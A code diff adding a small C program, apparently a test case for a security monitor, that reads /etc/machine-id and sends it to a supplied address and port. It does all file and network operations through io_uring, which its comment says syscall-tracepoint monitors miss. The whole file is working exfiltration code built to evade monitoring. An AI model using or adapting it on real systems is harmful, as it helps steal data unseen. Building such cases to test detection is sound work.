@@ -1,0 +1,56 @@
+// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
+/* uring_leak: reads /etc/machine-id and sends it to ADDR:PORT using io_uring only (open, read,
+ * connect, send), the path syscall-tracepoint monitors do not see. */
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <liburing.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+static int run(struct io_uring *ring, struct io_uring_sqe *sqe)
+{
+	struct io_uring_cqe *cqe;
+	int res;
+
+	(void)sqe;
+	if (io_uring_submit(ring) < 0 || io_uring_wait_cqe(ring, &cqe) < 0)
+		return -1;
+	res = cqe->res;
+	io_uring_cqe_seen(ring, cqe);
+	return res;
+}
+
+int main(int argc, char **argv)
+{
+	struct sockaddr_in sa = { .sin_family = AF_INET };
+	struct io_uring ring;
+	struct io_uring_sqe *sqe;
+	char buf[128];
+	int fd, sock, n;
+
+	if (argc != 3 || inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1)
+		return 2;
+	sa.sin_port = htons(atoi(argv[2]));
+	if (io_uring_queue_init(8, &ring, 0))
+		return 3;
+	sqe = io_uring_get_sqe(&ring);
+	io_uring_prep_openat(sqe, AT_FDCWD, "/etc/machine-id", O_RDONLY, 0);
+	fd = run(&ring, sqe);
+	sqe = io_uring_get_sqe(&ring);
+	io_uring_prep_read(sqe, fd, buf, sizeof(buf), 0);
+	n = run(&ring, sqe);
+	sock = socket(AF_INET, SOCK_STREAM, 0);
+	sqe = io_uring_get_sqe(&ring);
+	io_uring_prep_connect(sqe, sock, (struct sockaddr *)&sa, sizeof(sa));
+	if (fd < 0 || n <= 0 || run(&ring, sqe) < 0)
+		return 4;
+	sqe = io_uring_get_sqe(&ring);
+	io_uring_prep_send(sqe, sock, buf, n, 0);
+	if (run(&ring, sqe) != n)
+		return 5;
+	printf("%d\n", getpid());
+	io_uring_queue_exit(&ring);
+	return 0;
+}
